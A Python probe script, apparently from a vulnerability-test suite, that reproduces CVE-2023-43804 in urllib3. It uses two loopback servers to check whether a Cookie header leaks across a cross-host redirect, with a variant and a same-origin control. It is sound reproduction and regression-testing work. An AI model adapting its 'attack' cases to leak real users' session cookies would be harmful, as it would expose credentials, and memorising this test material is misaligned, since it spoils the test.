# /// vertice-probe
# id = "PYSEC-2023-192"
# aliases = ["CVE-2023-43804", "GHSA-v845-jxx5-vc9f"]
# package = "urllib3"
# summary = "A Cookie header given by the caller stays on when a redirect leads to another host."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:N" }]
# cwe = ["CWE-200"]
# kind = "leak"
# symbols = [
#   "urllib3.request",
#   "urllib3.PoolManager",
#   "urllib3.PoolManager.request",
#   "urllib3.PoolManager.urlopen",
#   "urllib3.ProxyManager",
#   "urllib3.poolmanager.PoolManager",
# ]
#
# [[affected]]
# package = "urllib3"
# ranges = [
#   { type = "ECOSYSTEM", events = [
#     { introduced = "2.0.0" },
#     { fixed = "2.0.6" },
#     { introduced = "0" },
#     { fixed = "1.26.17" },
#   ] },
# ]
#
# [cases]
# attack = "a redirect to another host carries the Cookie header along"
# [cases.variants]
# pool_default = "the same for another port, the header being a lower-case default of the pool and retries given"
# [cases.controls]
# same_origin = "a redirect within the same origin keeps the cookie"
#
# [test]
# vulnerable = "2.0.5"
# fixed = "2.0.6"
# ///
"""CVE-2023-43804: a Cookie header follows a redirect to another site."""

import http.server
import json
import sys
import threading
import warnings

warnings.simplefilter("ignore")


class Site(object):
    """A web server on a loopback address: redirects by path, notes method, headers and body of what it gets."""

    def __init__(self, host):
        self.redirects, self.seen = {}, []
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self):
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                headers = {name.lower(): value for name, value in self.headers.items()}
                site.seen.append((self.path, self.command, headers, body))
                status, target = site.redirects.get(self.path, (200, None))
                self.send_response(status)
                if target:
                    self.send_header("Location", target)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_PUT = do_GET

            def log_message(self, *args):
                pass

        server = http.server.ThreadingHTTPServer((host, 0), Handler)
        server.daemon_threads = True
        self.url = "http://%s:%d" % (host, server.server_address[1])
        threading.Thread(target=server.serve_forever, daemon=True).start()


def look(first, second):
    if len(first.seen) != 1 or "cookie" not in first.seen[0][2] or [got[0] for got in second.seen] != ["/end"]:
        return "error", "the redirect was not followed: %r %r" % (first.seen, second.seen)
    if "cookie" in second.seen[0][2]:
        return "exploited", "the other site got the Cookie header"
    return "blocked", "the redirect was followed without the Cookie header"


def attack():
    import urllib3

    first, second = Site("127.0.0.1"), Site("127.0.0.2")
    first.redirects["/start"] = 302, second.url + "/end"
    urllib3.PoolManager().request("GET", first.url + "/start", headers={"Cookie": "session=secret"})
    return look(first, second)


def pool_default():
    import urllib3

    first, second = Site("127.0.0.1"), Site("127.0.0.1")
    first.redirects["/start"] = 307, second.url + "/end"
    pool = urllib3.PoolManager(headers={"cookie": "session=secret"}, retries=urllib3.Retry(total=5, redirect=3))
    pool.request("POST", first.url + "/start", body=b"x")
    return look(first, second)


def same_origin():
    import urllib3

    site = Site("127.0.0.1")
    site.redirects["/start"] = 302, "/end"
    urllib3.PoolManager().request("GET", site.url + "/start", headers={"Cookie": "session=secret"})
    got = [(path, headers.get("cookie")) for path, _, headers, _ in site.seen]
    good = got == [("/start", "session=secret"), ("/end", "session=secret")]
    return ("works", "redirected with the cookie") if good else ("broken", repr(got))


CASES = {"attack": attack, "pool_default": pool_default, "same_origin": same_origin}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
